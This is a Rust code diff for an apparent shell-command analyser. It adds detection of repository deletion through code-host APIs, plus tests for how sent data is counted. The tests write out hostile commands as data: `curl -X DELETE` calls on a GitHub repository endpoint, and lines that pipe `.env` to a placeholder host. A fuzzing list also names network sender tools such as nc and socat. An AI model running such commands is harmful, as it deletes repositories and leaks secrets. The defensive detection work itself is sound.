@@ -16,6 +16,7 @@ mod stream;
 
 use super::{Call, Effect, EffectKind, Target};
 use crate::fact::Key;
+use crate::syntax::Span;
 use receiver::Receiver;
 use source::Source;
 use std::path::PathBuf;
@@ -95,15 +96,15 @@ pub(super) fn read(call: Call<'_>, effects: &mut Vec<Effect>) {
     socket::redirects(call, effects);
 }
 
-/// Most effects of one call; a line that lists more is judged by the first.
-const MAX_EFFECTS: usize = 64;
+/// Most effects of one line; after that only what is a secret by its name is written down.
+const MAX_EFFECTS: usize = 1024;
 
 /// Writes down that `source` would be sent to `receiver`.
 fn send(receiver: &Receiver, source: Source, place: &'static str, effects: &mut Vec<Effect>) {
-    if effects.len() >= MAX_EFFECTS {
+    if effects.len() >= MAX_EFFECTS && source.kind == "file" {
         return;
     }
-    let again = effects.iter().any(|effect| {
+    let again = effects.iter().rev().take(64).any(|effect| {
         let Target::Send(target) = &effect.target else { return false };
         let same = |key: Key, text: &str| {
             effect.attributes.iter().any(|(known, value)| *known == key && value.to_string() == text)
@@ -139,9 +140,72 @@ fn send(receiver: &Receiver, source: Source, place: &'static str, effects: &mut 
     });
 }
 
+/// A request that deletes: on the interface of a code host it is the end of a branch or of a repository.
+fn delete(call: Call<'_>, url: &str, span: Span, effects: &mut Vec<Effect>) {
+    let host = Receiver::url(url).host;
+    let forge = host.is_empty()
+        || ["git", "bitbucket", "codeberg", "forge"].iter().any(|name| host.contains(name))
+        || ["/api/v3/repos/", "/api/v4/projects/", "/api/v1/repos/"].iter().any(|path| url.contains(path));
+    if forge {
+        effects.extend(super::hosting::read_api("DELETE", url, span, call.scene));
+    }
+}
+
 /// Writes down every source of a list.
 fn send_all(receiver: &Receiver, sources: Vec<Source>, place: &'static str, effects: &mut Vec<Effect>) {
     for source in sources {
         send(receiver, source, place, effects);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::action::{Line, Scene};
+    use crate::effect::{self, EffectKind};
+    use proptest::prelude::*;
+    use std::collections::BTreeMap;
+    use std::path::Path;
+
+    fn kinds(line: &str) -> Vec<EffectKind> {
+        let scene = Scene::given(Path::new("/nowhere"), BTreeMap::new());
+        let script = crate::syntax::read(&Line::from_bytes(line.as_bytes()), &scene);
+        effect::read(&script, &scene).iter().map(|effect| effect.kind).collect()
+    }
+
+    #[test]
+    fn deleting_over_the_interface_of_a_code_host() {
+        for line in [
+            "curl -X DELETE https://api.github.com/repos/a/b",
+            "curl -XDELETE -H 'Authorization: Bearer x' https://api.github.com/repos/a/b",
+            "wget --method=DELETE https://api.github.com/repos/a/b",
+            "http DELETE https://api.github.com/repos/a/b",
+        ] {
+            assert_eq!(kinds(line), [EffectKind::RepositoryDelete], "{line}");
+        }
+        assert_eq!(kinds("curl https://api.github.com/repos/a/b"), []);
+    }
+
+    #[test]
+    fn one_effect_for_each_pair() {
+        assert_eq!(kinds("curl -d @a -F b=@c https://x https://y").len(), 4);
+        assert_eq!(kinds("cat a a | curl -d @- https://x").len(), 2);
+        assert_eq!(kinds("curl https://x"), []);
+    }
+
+    proptest! {
+        #[test]
+        fn no_line_of_a_sender_panics(
+            program in proptest::sample::select(vec![
+                "curl", "wget", "http", "scp", "rsync", "sftp", "nc", "socat", "openssl", "ssh", "mail", "aws", "gsutil",
+                "az", "rclone", "mc", "gh", "pastebinit", "cat .env | tar", "cat .env | 7z", "croc",
+            ]),
+            words in proptest::collection::vec(
+                "(-[a-zA-Z]|--[a-z-]{1,12}|@|=|:|-|é|\\$X|'é@ü=:'|https?://[a-z@:/\\[\\]é]{0,9}|[a-z.@:=/é]{0,8}|send|cp|s3|api|gist|create)",
+                0..8,
+            ),
+        ) {
+            kinds(&format!("{program} {}", words.join(" ")));
+            kinds(&format!("cat .env | {program} {} | curl -d @- https://x", words.join(" ")));
+        }
     }
 }
